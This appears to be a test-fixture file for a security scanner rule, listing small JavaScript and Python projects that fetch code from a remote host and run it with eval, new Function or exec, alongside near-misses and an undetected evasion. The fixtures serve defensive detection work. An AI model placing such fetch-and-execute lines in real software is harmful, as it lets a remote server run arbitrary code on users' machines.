import type { Examples } from "@doorward/core";

/** Programs that run what another computer sends, and programs that only ask. */
export const examples: Examples = {
  hits: [
    {
      name: "an answer that is evaluated",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'fetch("https://cdn.example/agent.js").then((answer) => answer.text()).then((text) => eval(text));\n',
      },
    },
    {
      name: "an answer that becomes a function, through a file of its own",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'const { get } = require("./get");\n\nget().then((text) => new Function(text)());\n',
        "get.js": 'exports.get = async () => (await fetch("https://cdn.example/agent.js")).text();\n',
      },
    },
    {
      name: "a program of Python that runs what it downloads",
      files: { "main.py": 'import requests\n\nexec(requests.get("https://cdn.example/agent.py").text)\n' },
    },
  ],
  misses: [
    {
      name: "an answer that is shown",
      why: "Nothing that came is run.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'fetch("https://data.example/list.json").then((answer) => answer.json()).then(console.log);\n',
      },
    },
    {
      name: "a loader that runs what its caller names",
      why: "A library asks whatever it is told to, and this project tells it nothing.",
      files: {
        "package.json": '{\n  "name": "shop",\n  "version": "1.0.0",\n  "main": "a.js"\n}\n',
        "a.js":
          "exports.load = (url) => fetch(url).then((answer) => answer.text()).then((text) => new Function(text)());\n",
      },
    },
    {
      name: "an answer of a server on the same computer",
      why: "What answers runs on the same machine.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'fetch("http://localhost:3000/plugin.js").then((answer) => answer.text()).then((text) => eval(text));\n',
      },
    },
  ],
  evasions: [
    {
      name: "an answer that is saved as a template and rendered by a template engine",
      caughtBy: "nothing",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'fetch("https://cdn.example/page").then((answer) => answer.text()).then((text) => require("fs").writeFileSync("page.txt", text));\n',
      },
    },
  ],
};
